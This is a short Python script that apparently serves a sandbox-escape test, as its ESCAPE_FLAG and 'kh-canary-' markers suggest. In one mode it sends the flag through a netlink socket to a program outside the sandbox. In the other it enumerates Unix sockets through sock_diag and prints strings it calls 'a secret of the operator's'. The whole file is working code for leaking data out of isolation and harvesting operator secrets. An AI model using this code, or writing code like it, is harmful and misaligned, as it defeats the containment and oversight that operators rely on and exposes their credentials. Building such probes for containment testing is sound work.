"""Talk by netlink: `netlink.py user PORT` to a program outside, `netlink.py sockets` of its sockets."""

import os
import socket
import struct
import sys

USERSOCK, SOCK_DIAG = 2, 4


def main(way: str, port: str) -> int:
    flag = os.environ["ESCAPE_FLAG"].encode()
    with socket.socket(
        socket.AF_NETLINK, socket.SOCK_RAW, USERSOCK if way == "user" else SOCK_DIAG
    ) as line:
        line.settimeout(2)
        if way == "user":
            head = struct.pack("=IHHII", 16 + len(flag), 16, 0, 1, 0)
            line.sendto(head + flag, (int(port), 0))
            return 1
        # struct unix_diag_req: every state, with names (linux/unix_diag.h)
        asked = struct.pack("=BBHIIIII", socket.AF_UNIX, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0)
        line.sendto(struct.pack("=IHHII", 16 + len(asked), 20, 0x301, 1, 0) + asked, (0, 0))
        octets = b""
        while len(octets) < 1 << 20:
            part = line.recv(65536)
            octets += part
            if struct.unpack_from("=IH", part)[1] in (2, 3):  # an error, or the end
                break
    return show(octets)


def show(octets: bytes) -> int:
    """Print what looks like a secret of the operator's."""
    at = octets.find(b"kh-canary-")
    if at < 0:
        return 1
    while at >= 0:
        sys.stdout.buffer.write(octets[at : at + 60] + b"\n")
        at = octets.find(b"kh-canary-", at + 1)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
